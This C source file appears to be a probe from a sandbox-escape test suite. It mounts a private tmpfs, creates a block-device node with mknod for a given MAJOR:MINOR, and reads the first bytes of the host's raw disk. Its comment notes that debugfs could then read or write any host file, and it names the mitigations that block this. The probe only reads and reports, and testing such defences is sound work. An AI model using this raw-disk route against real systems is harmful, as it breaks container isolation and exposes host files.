/* SPDX-License-Identifier: MIT
 *
 * Read the host's disk, below all file systems.
 *
 * A device file is a pair of numbers; who may make one has the whole disk,
 * whatever / is and wherever /dev went. debugfs(8) then reads any
 * file of the host, or writes it. Argument: the disk, MAJOR:MINOR. Harmless:
 * it reads the first bytes, through a file that it removes at once.
 * Step 4 stops it, by the filter's rule for mknod, and CAP_MKNOD is gone, and
 * all places where root could make a device file but /dev are nodev.
 * See mknod(2); Docker keeps CAP_MKNOD and needs a cgroup of devices instead.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

int main(int argc, char **argv)
{
    char block[4096];
    unsigned major_number, minor_number;
    size_t used = 0;

    if (argc != 2 ||
        sscanf(argv[1], "%u:%u", &major_number, &minor_number) != 2)
        does_not_apply("usage: raw_disk MAJOR:MINOR");
    /* A tmpfs in a copy of the mount table, where we can have it: it leaves
     * nothing behind, and it is not nodev as many a /tmp is. */
    copy_mounts();
    mount("tmpfs", "/tmp", "tmpfs", 0, "size=64k");

    int fd = -1;
    int made = mknod("/tmp/.disk", S_IFBLK | 0600,
                     makedev(major_number, minor_number));
    if (made == 0)
        fd = open("/tmp/.disk", O_RDONLY);
    int error = errno;
    if (made == 0)
        unlink("/tmp/.disk");
    errno = error;
    if (fd < 0 && made == 0 && errno == ENXIO)
        does_not_apply("this machine has no disk %s", argv[1]);
    /* Not want of CAP_MKNOD, which made the file, nor nodev: that is EACCES.
     */
    if (fd < 0 && made == 0 && errno == EPERM)
        does_not_apply("the host keeps even its own root from disk %s",
                       argv[1]);
    if (fd < 0)
        stopped(made < 0 ? "mknod" : "open");
    ssize_t size = read(fd, block, sizeof(block));
    if (size < 0)
        stopped("read");
    for (ssize_t i = 0; i < size; i++)
        used += block[i] != 0;
    learned("%zd bytes of disk %s, %zu of them not 0", size, argv[1], used);
}
